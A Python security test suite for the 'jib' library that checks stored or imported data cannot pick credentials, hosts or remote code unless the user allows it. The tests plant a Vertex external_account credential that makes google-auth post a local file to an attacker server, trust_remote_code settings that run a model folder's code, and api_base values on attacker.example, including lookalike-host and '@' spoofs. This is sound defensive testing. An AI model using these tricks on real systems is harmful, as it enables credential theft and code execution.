"""Deny by default for data (issue 16, items 1, 2 and 15).

Data — a stored chat, a store, a JSONL line's params — may set the model, the sampling params,
the endpoint (under the host rule) and the few options its provider declares inert; anything
else is refused unless the user allows it by name. Each reproducer plants data the way an
attacker with write access would and checks, against a recording server on 127.0.0.1 or a model
folder whose code writes a marker, that nothing is sent and no code runs; each has a control
where the user wrote the same thing, or allowed it, and it works.
"""

from __future__ import annotations

import asyncio
import json
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import jib
from jib import Chat, GenerateParams, Message, TrustPolicy, UntrustedIdentifierError
from jib.errors import GeneratorWarning, InvalidGeneratorError
from jib.storage import open_store
from jib.testing import EchoGenerator
from tests.cli.conftest import JibRunner, assert_one_clean_error_line, isolated_env, make_runner
from tests.security.marker_model import MarkerModel, build_marker_model
from tests.security.recording_server import RunningRecorder, run_recorder

VERTEX_KEYS = ("vertex_credentials", "vertex_project", "vertex_location")
FILE_CONTENTS = "fake-cloud-credential-FILE-0123456789"
PROVIDER_KEY = "sk-provider-KEY-0123456789"


@pytest.fixture
def attacker() -> Iterator[RunningRecorder]:
    """A server that records whatever reaches it."""
    with run_recorder() as running:
        yield running


@pytest.fixture
def no_allowances(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("JIB_ALLOW_ENV", "JIB_ALLOW_HOSTS", "JIB_ALLOW_OPTIONS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", PROVIDER_KEY)


@pytest.fixture
def jib_cli(tmp_path: Path) -> JibRunner:
    """`jib …` in a subprocess, its store and Hugging Face caches in this test's folder."""
    env = isolated_env(tmp_path)
    env.update({"OPENAI_API_KEY": "", "HF_HUB_OFFLINE": "1"})
    return make_runner(env, tmp_path)


@pytest.fixture
def cli_store(tmp_path: Path) -> Path:
    """Where `jib_cli` keeps its store."""
    return tmp_path / "data" / "jib" / "jib.db"


def chat_json(generator_id: str, params: dict[str, Any] | None = None) -> str:
    """A stored chat's JSON whose `generator_id` (and params) someone else wrote."""
    chat = Chat(messages=[Message("user", "hi")], generated=[Message("assistant", "hello")])
    data = chat.to_dict()
    data["generator_id"] = generator_id
    data["params"] = params
    return json.dumps(data)


def plant(store_path: Path, *generator_ids: str) -> list[str]:
    """Save one chat per identifier into the store, as anyone with write access could; their ids."""
    store_path.parent.mkdir(parents=True, exist_ok=True)
    chats = [Chat.from_json(chat_json(i), rebuild_generator=False) for i in generator_ids]
    with open_store(store_path) as store:
        store.save(chats)
    return [chat.id for chat in chats]


def assert_refusal_names(error: BaseException, option: str) -> None:
    """The refusal names the key and every way to allow it."""
    message = str(error)
    assert f"it sets {option}, which" in message
    assert f"--allow-option {option}" in message
    assert f"JIB_ALLOW_OPTIONS={option}" in message
    assert f"TrustPolicy(allow_options={{{option!r}}})" in message


# -- item 1: a credential in `extra` sends a local file to the data's host ----------------------


@pytest.fixture
def credential_file(tmp_path: Path) -> Path:
    """A local file the attacker wants: its contents must never reach the recorder."""
    path = tmp_path / "cloud-token.txt"
    path.write_text(FILE_CONTENTS)
    return path


def vertex_extra(attacker: RunningRecorder, credential_file: Path) -> dict[str, Any]:
    """LiteLLM's Vertex options holding an `external_account` credential as JSON text: google-auth
    reads `credential_source.file` and posts it to `token_url`, the attacker."""
    credential = {
        "type": "external_account",
        "audience": "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": f"{attacker.origin}/token",
        "credential_source": {"file": str(credential_file)},
    }
    return {
        "vertex_credentials": json.dumps(credential),
        "vertex_project": "p",
        "vertex_location": "us-central1",
    }


def vertex_identifier(attacker: RunningRecorder, credential_file: Path) -> str:
    params = GenerateParams(extra=vertex_extra(attacker, credential_file))
    return jib.get_generator(
        "vertex_ai/gemini-2.0-flash,max_retries=0", params=params
    ).to_identifier()


def assert_file_never_arrived(attacker: RunningRecorder) -> None:
    assert FILE_CONTENTS not in json.dumps(attacker.requests)


@pytest.mark.usefixtures("no_allowances")
def test_a_credential_in_a_stored_identifiers_extra_is_refused_and_sends_nothing(
    attacker: RunningRecorder, credential_file: Path
) -> None:
    stored = chat_json(vertex_identifier(attacker, credential_file))

    with pytest.raises(UntrustedIdentifierError) as caught:
        Chat.from_json(stored)

    assert_refusal_names(caught.value, "extra.vertex_credentials")
    assert "token_url" not in str(caught.value)  # the credential is not quoted
    assert attacker.requests == []


@pytest.mark.usefixtures("no_allowances")
def test_a_credential_in_a_store_loads_without_its_generator_and_the_rest_is_unaffected(
    attacker: RunningRecorder, credential_file: Path, tmp_path: Path
) -> None:
    path = tmp_path / "shared.db"
    plant(path, vertex_identifier(attacker, credential_file), "echo!demo")

    with open_store(path) as store, warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        chats = store.query()

    [planted] = [chat for chat in chats if chat.generator_id and "vertex" in chat.generator_id]
    [benign] = [chat for chat in chats if chat is not planted]
    assert planted.generator is None
    assert isinstance(benign.generator, EchoGenerator)
    [warning] = [w for w in caught if issubclass(w.category, GeneratorWarning)]
    assert "--allow-option extra.vertex_credentials" in str(warning.message)
    assert attacker.requests == []


@pytest.mark.usefixtures("no_allowances")
async def test_the_planted_credential_is_live_and_only_the_users_allowance_lets_it_through(
    attacker: RunningRecorder, credential_file: Path
) -> None:
    # The control: what the refusal stops is a working exploit. With the option allowed (or
    # the identifier written by the user), google-auth reads the file and posts it.
    pytest.importorskip("google.auth")
    identifier = vertex_identifier(attacker, credential_file)
    assert jib.get_generator(identifier).params.extra  # the user's own: trusted as written
    allowed = TrustPolicy(allow_options={f"extra.{key}" for key in VERTEX_KEYS})

    chat = Chat.from_json(chat_json(identifier), trusted=allowed)
    assert chat.generator is not None
    again = await chat.continue_("and then?").run(on_failed="include")

    assert again.failed  # the recorder is no token service; the file was sent all the same
    assert [request["path"] for request in attacker.requests] == ["/token"]
    assert FILE_CONTENTS in attacker.requests[0]["body"]


def test_a_credential_in_jsonl_params_fails_its_line_only(
    attacker: RunningRecorder,
    credential_file: Path,
    jib_cli: JibRunner,
    cli_store: Path,
    tmp_path: Path,
) -> None:
    prompts = tmp_path / "prompts.jsonl"
    lines = [
        {"prompt": "first"},
        {"prompt": "planted", "params": {"extra": vertex_extra(attacker, credential_file)}},
        {"prompt": "third", "params": {"extra": {"top_logprobs": 2, "logprobs": True}}},
    ]
    prompts.write_text("".join(json.dumps(line) + "\n" for line in lines))
    # The user's own generator, trusted: the line's params are data all the same.
    identifier = f"openai/x,api_base={attacker.origin}/v1,api_key=sk-local,max_retries=0"

    result = jib_cli("run", identifier, "-f", str(prompts), "--no-progress", "--run", "r")

    assert result.code == 1, result.stderr
    assert "--allow-option extra.vertex_credentials" in result.stderr
    sent = [json.loads(request["body"])["messages"][-1]["content"] for request in attacker.requests]
    assert sorted(sent) == ["first", "third"]  # an inert extra key (logprobs) goes through
    assert_file_never_arrived(attacker)
    with open_store(cli_store) as store:
        chats = {chat.messages[-1].content: chat for chat in store.query(rebuild_generator=False)}
    assert not chats["first"].failed and not chats["third"].failed
    refused = chats["planted"]
    assert refused.failed and refused.generated == []
    assert "prompts.jsonl line 2" in str(refused.error)
    assert_refusal_names(refused.error or Exception(), "extra.vertex_credentials")

    # Allowed by the user, the line is sent like the others (`--resume` runs the failed line).
    allowances = [arg for key in VERTEX_KEYS for arg in ("--allow-option", f"extra.{key}")]
    again = jib_cli(
        "run", identifier, "-f", str(prompts), "--no-progress", "--run", "r", "--resume",
        "--retry-failed", *allowances,
    )  # fmt: skip
    assert again.code == 0, again.stderr
    sent = [json.loads(request["body"])["messages"][-1]["content"] for request in attacker.requests]
    assert sorted(sent) == ["first", "planted", "third"]


# -- item 2: code runs from data ----------------------------------------------------------------


@pytest.fixture(scope="module")
def marker_model(tmp_path_factory: pytest.TempPathFactory) -> MarkerModel:
    pytest.importorskip("transformers")
    pytest.importorskip("torch")
    return build_marker_model(tmp_path_factory.mktemp("marker-model"))


@pytest.fixture
def fresh_marker(marker_model: MarkerModel) -> Iterator[MarkerModel]:
    marker_model.marker.unlink(missing_ok=True)
    yield marker_model
    marker_model.marker.unlink(missing_ok=True)


@pytest.mark.usefixtures("no_allowances")
@pytest.mark.parametrize("switched_on", [1, "1", "yes", "on", "True", True])
def test_trust_remote_code_in_model_kwargs_is_refused_whatever_its_spelling(
    switched_on: Any,
) -> None:
    generator = jib.get_generator("transformers!/some/dir").model_copy(
        update={"model_kwargs": {"trust_remote_code": switched_on}}
    )
    stored = chat_json(generator.to_identifier())

    with pytest.raises(UntrustedIdentifierError) as caught:
        Chat.from_json(stored)
    assert_refusal_names(caught.value, "model_kwargs")
    assert "which runs code" in str(caught.value)

    # Allowing the option is not allowing code: only a strict `false` is off.
    with pytest.raises(UntrustedIdentifierError, match="--trust-remote-code"):
        Chat.from_json(stored, trusted=TrustPolicy(allow_options={"model_kwargs"}))
    both = TrustPolicy(allow_options={"model_kwargs"}, allow_remote_code=True)
    assert Chat.from_json(stored, trusted=both).generator is not None


@pytest.mark.parametrize("value", ["1", "yes", "on", "0", "no", "off", ""])
def test_an_identifiers_booleans_are_true_or_false_only(value: str) -> None:
    with pytest.raises(InvalidGeneratorError, match="must be true or false"):
        jib.get_generator(f"transformers!/some/dir,trust_remote_code={value}")
    for written in ("true", "True", "FALSE"):
        jib.get_generator(f"vllm!m,enforce_eager={written},trust_remote_code={written}")


def test_remote_code_from_a_stored_chat_never_runs_unless_the_user_allows_it(
    fresh_marker: MarkerModel, jib_cli: JibRunner, cli_store: Path
) -> None:
    planted = jib.get_generator(f"transformers!{fresh_marker.folder}").model_copy(
        update={"model_kwargs": {"trust_remote_code": "yes"}}
    )
    [planted_id] = plant(cli_store, planted.to_identifier())

    refused = jib_cli("chat", "--continue", "hello", "-p", "max_tokens=2")

    assert_one_clean_error_line(refused, "--allow-option model_kwargs", "--trust-remote-code")
    assert refused.code == 2
    assert not fresh_marker.code_ran

    # The control: the user's own identifier loads the same folder and runs none of its code…
    mine = jib_cli("chat", f"transformers!{fresh_marker.folder}", "hello", "-p", "max_tokens=2")
    assert mine.code == 0, mine.stderr
    assert not fresh_marker.code_ran
    # …and the planted one, once allowed, does what it was built to (the user chose it).
    allowed = jib_cli(
        "chat", "hello", "-p", "max_tokens=2", "--cid", planted_id,
        "--allow-option", "model_kwargs", "--trust-remote-code",
    )  # fmt: skip
    assert allowed.code == 0, allowed.stderr
    assert fresh_marker.code_ran


def test_custom_generate_in_jsonl_params_never_runs_and_the_other_lines_do(
    fresh_marker: MarkerModel, jib_cli: JibRunner, cli_store: Path, tmp_path: Path
) -> None:
    prompts = tmp_path / "prompts.jsonl"
    planted = {"custom_generate": str(fresh_marker.folder), "trust_remote_code": True}
    lines = [
        {"prompt": "hello world"},
        {"prompt": "the quick", "params": {"extra": planted}},
        {"prompt": "one two", "params": {"extra": {"repetition_penalty": 1.1}}},
    ]
    prompts.write_text("".join(json.dumps(line) + "\n" for line in lines))
    # The user's own generator, trusted: the line's params are data all the same.
    identifier = f"transformers!{fresh_marker.folder}"
    run = (
        "run",
        identifier,
        "-f",
        str(prompts),
        "--no-progress",
        "--run",
        "r",
        "-p",
        "max_tokens=2",
    )

    result = jib_cli(*run)

    assert result.code == 1, result.stderr
    assert not fresh_marker.code_ran
    with open_store(cli_store) as store:
        chats = {chat.messages[-1].content: chat for chat in store.query(rebuild_generator=False)}
    assert not chats["hello world"].failed and not chats["one two"].failed
    refused = chats["the quick"]
    assert refused.failed and refused.generated == []
    assert_refusal_names(refused.error or Exception(), "extra.custom_generate")
    assert "extra.trust_remote_code=True, which runs code" in str(refused.error)

    allowed = jib_cli(
        *run, "--resume", "--retry-failed", "--allow-option", "extra.custom_generate",
        "--trust-remote-code",
    )  # fmt: skip
    assert allowed.code == 0, allowed.stderr
    assert fresh_marker.code_ran


# -- item 15: a provider's own default host is not chosen by the data ---------------------------


@pytest.mark.usefixtures("no_allowances")
@pytest.mark.parametrize(
    "identifier",
    [
        "openai!gpt-4o-mini,api_key=env:OPENAI_API_KEY",
        "openai!gpt-4o-mini",  # the key comes from OPENAI_API_KEY, to OpenAI
        "openai!gpt-4o-mini,api_key=env:OPENAI_API_KEY,api_base=https://api.openai.com/v1/",
    ],
)
def test_openai_generators_on_their_default_host_are_accepted_from_data(
    identifier: str, tmp_path: Path
) -> None:
    assert jib.get_generator(identifier, trusted=False).to_identifier().startswith("openai!")
    chat = Chat.from_json(chat_json(identifier))
    assert chat.generator is not None
    assert chat.generator.secret_destinations() in ([], [("api_base", chat.generator.api_base)])

    path = tmp_path / "store.db"
    plant(path, identifier)
    with open_store(path) as store, warnings.catch_warnings():
        warnings.simplefilter("error", GeneratorWarning)
        [stored] = store.query()
    assert stored.generator is not None


@pytest.mark.usefixtures("no_allowances")
@pytest.mark.parametrize(
    "api_base",
    [
        "http://attacker.example/v1",
        "https://api.openai.com.attacker.example/v1",
        "https://api.openai.com@attacker.example/v1",
    ],
)
def test_an_openai_key_still_never_goes_to_a_host_the_data_chose(api_base: str) -> None:
    identifier = f"openai!gpt-4o-mini,api_key=env:OPENAI_API_KEY,api_base={api_base}"

    with pytest.raises(UntrustedIdentifierError, match=r"--allow-host [a-z.]*attacker\.example"):
        jib.get_generator(identifier, trusted=False)


@pytest.mark.usefixtures("no_allowances")
def test_a_stored_openai_chat_on_loopback_continues_with_the_key_from_the_environment(
    attacker: RunningRecorder,
) -> None:
    identifier = f"openai!tiny,api_base={attacker.origin}/v1,api_key=env:OPENAI_API_KEY"
    chat = Chat.from_json(chat_json(identifier, params={"extra": {"logprobs": False}}))
    assert chat.generator is not None

    again = asyncio.run(chat.continue_("once more").run())

    assert again.content == "echo: once more"
    assert attacker.requests[-1]["headers"]["authorization"] == f"Bearer {PROVIDER_KEY}"
